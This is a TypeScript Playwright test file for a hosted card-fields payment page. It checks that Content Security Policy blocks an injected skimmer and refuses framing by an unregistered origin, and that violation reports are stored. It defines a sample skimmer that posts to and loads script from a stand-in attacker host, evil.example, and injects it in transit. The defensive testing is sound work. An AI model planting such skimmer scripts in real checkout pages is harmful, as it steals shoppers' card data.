import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Route } from 'playwright-core';
import { cardPlatform, type CardPlatform } from './helpers/cards.ts';
import { launchChromium, merchantPage, NO_CHROMIUM, serveSite } from './helpers/browser.ts';
import { freePort } from './helpers/free-port.ts';

// ApparelX 2020 in a real browser: the hosted card-fields page is altered in transit to carry
// a skimmer (inline and external), and a script is injected into it at run time. The page's
// CSP blocks all three, the card fields keep working, and the browser's violation reports
// are stored by Kinko. A page on an unregistered origin cannot even frame the fields.

const SKIMMER = `<script>window.__skimmed = 'yes'; fetch('https://evil.example/c', { method: 'POST' });</script>
<script src="https://evil.example/skim.js"></script>`;

async function waitFor<T>(fn: () => Promise<T | undefined>, ms: number): Promise<T | undefined> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v !== undefined || Date.now() > end) return v;
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function setUp(t: { after(fn: () => Promise<void>): void }) {
  const holder = { html: '' };
  const shop = await serveSite(() => holder.html);
  const port = await freePort();
  const origin = `http://localhost:${port}`;
  const p: CardPlatform = await cardPlatform({ publicOrigin: origin, merchantOrigin: shop.origin });
  await p.app.listen({ host: '127.0.0.1', port });
  holder.html = merchantPage(
    origin,
    p.vault.scripts.entry('kinko').integrity,
    p.merchant.publishableKey,
  );
  const browser = await launchChromium();
  t.after(async () => {
    await browser.close();
    await shop.close();
    await p.close();
  });
  return { p, shop, origin, browser };
}

test(
  'an injected skimmer on the hosted fields page is blocked by CSP and reported',
  { skip: NO_CHROMIUM, timeout: 90_000 },
  async (t) => {
    const { p, shop, browser } = await setUp(t);
    const page = await browser.newPage();
    // Tamper with the hosted page on its way to the browser (a compromised proxy or server).
    await page.route('**/hosted/fields?**', async (route: Route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${SKIMMER}</body>`);
      await route.fulfill({ response, body });
    });
    await page.goto(`${shop.origin}/checkout`);
    const frame = page.frameLocator('iframe[title="Card details (Kinko)"]');
    await frame.locator('#number').waitFor();
    const hosted = page.frames().find((f) => f.url().includes('/hosted/fields'))!;
    // And a script injected at run time, as a compromised dependency would.
    await hosted.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = "window.__injected = 'yes'";
      document.body.appendChild(s);
    });
    assert.equal(
      await hosted.evaluate(() => (window as unknown as Record<string, unknown>)['__skimmed']),
      undefined,
    );
    assert.equal(
      await hosted.evaluate(() => (window as unknown as Record<string, unknown>)['__injected']),
      undefined,
    );
    const reports = await waitFor(async () => {
      const rows = await p.vault.listCspReports();
      return rows.length >= 3 ? rows : undefined;
    }, 15_000);
    assert.ok(reports, `reports stored: ${JSON.stringify(await p.vault.listCspReports())}`);
    const directives = new Set(reports.map((r) => r.effective_directive));
    assert.ok(directives.has('script-src-elem'), [...directives].join(','));
    assert.ok(reports.some((r) => r.blocked_uri === 'https://evil.example/skim.js'));
    assert.ok(reports.some((r) => r.blocked_uri === 'inline'));
    assert.ok(reports.every((r) => r.document_path === `${p.publicOrigin}/hosted/fields`));
    // The honest script still runs: the fields still tokenize.
    await frame.locator('#number').fill('4242 4242 4242 4242');
    await frame.locator('#exp-month').fill('12');
    await frame.locator('#exp-year').fill('2030');
    await frame.locator('#cvc').fill('123');
    await frame.locator('#submit').click();
    await page.waitForFunction(
      () => document.getElementById('result')!.textContent!.startsWith('token '),
      undefined,
      { timeout: 20_000 },
    );
  },
);

test(
  'a page on an unregistered origin cannot frame the hosted fields',
  { skip: NO_CHROMIUM, timeout: 60_000 },
  async (t) => {
    const { p, shop, origin, browser } = await setUp(t);
    // The attacker's page claims to be the shop; frame-ancestors names the real shop only.
    const evil = await serveSite(
      () =>
        `<!doctype html><iframe id="f" src="${origin}/hosted/fields?pk=${p.merchant.publishableKey}&origin=${encodeURIComponent(shop.origin)}"></iframe>`,
    );
    t.after(() => evil.close());
    const page = await browser.newPage();
    await page.goto(`${evil.origin}/`);
    await page.waitForTimeout(1500);
    const framed = page.frames().find((f) => f.url().includes('/hosted/fields'));
    const hasFields = framed
      ? await framed
          .locator('#number')
          .count()
          .catch(() => 0)
      : 0;
    assert.equal(hasFields, 0, 'the hosted fields did not render inside the attacker page');
    const report = await waitFor(async () => {
      const rows = await p.vault.listCspReports();
      return rows.find((r) => r.effective_directive === 'frame-ancestors');
    }, 10_000);
    assert.ok(report, 'the refused framing was reported');
  },
);
